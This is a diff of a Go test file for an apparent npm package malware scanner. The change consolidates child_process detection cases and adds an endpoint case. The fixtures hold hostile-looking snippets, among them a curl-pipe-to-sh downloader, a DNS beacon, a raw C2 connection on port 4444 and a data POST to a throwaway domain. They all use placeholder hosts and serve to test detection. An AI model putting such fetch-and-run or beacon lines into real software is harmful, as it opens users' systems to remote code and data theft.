@@ -176,10 +176,7 @@ func TestContentDetectors(t *testing.T) {
 			old: map[string]string{"package.json": `{"name":"fz","keywords":["fuzzy"]}`, "index.js": "module.exports = 1;\n"}, id: WalletHook},
 
 		// process-spawn
-		{name: "child_process in the main file runs at load", new: ctAppend("const { execSync } = require('child_process');", "execSync('id');"), id: ProcessSpawn, want: true, sev: Medium},
-		{name: "child_process", new: ctWith(map[string]string{"lib/tool.js": "const { execSync } = require('child_process');\nexecSync('id');\n"}), id: ProcessSpawn, want: true, sev: Low},
-		{name: "child_process required by the main file", new: ctWith(map[string]string{"index.js": ctBase["index.js"] + "require('./lib/tool');\n",
-			"lib/tool.js": "const { execSync } = require('child_process');\nexecSync('id');\n"}), id: ProcessSpawn, path: "lib/tool.js", want: true, sev: Medium},
+		{name: "child_process", new: ctAppend("const { execSync } = require('child_process');", "execSync('id');"), id: ProcessSpawn, want: true, sev: Low},
 		{name: "detached unref", new: ctAppend("const cp = require('child_process');", "cp.spawn(bin, [], { detached: true, stdio: 'ignore' }).unref();"), id: ProcessSpawn, want: true},
 		{name: "regex exec is fine", new: ctAppend("const m = /a+/.exec(s);", "const r = re.exec(t);"), id: ProcessSpawn},
 		{name: "shell downloader in a script", new: ctWith(map[string]string{"install.sh": "#!/bin/sh\ncurl -fsSL https://get.example.invalid/x | sh\n"}), id: ProcessSpawn, path: "install.sh", want: true},
@@ -189,6 +186,7 @@ func TestContentDetectors(t *testing.T) {
 		{name: "first release spawning is not news", old: nil, new: map[string]string{"package.json": ctManifest, "cli.js": "require('child_process').execSync('ls');\n"}, id: ProcessSpawn},
 
 		// new-endpoint
+		{name: "a subdomain of the package's own homepage is its own", new: ctAppend("fetch('https://api.fx.example.invalid/v1/x');"), id: NewEndpoint},
 		{name: "host of a DNS query", new: ctAppend("dns.lookup('beacon.example.invalid', (e, a) => cb(a));"), id: NewEndpoint, want: true, sev: Medium, inTitle: "beacon.example.invalid"},
 		{name: "host of a raw connection", new: ctAppend("const c = net.createConnection(4444, 'c2.example.invalid');"), id: NewEndpoint, want: true, inTitle: "c2.example.invalid"},
 		{name: "throwaway TLD is high", new: ctAppend("fetch('https://cdn-stats.icu/collect', { method: 'POST' });"), id: NewEndpoint, want: true, sev: High, inTitle: ".icu"},
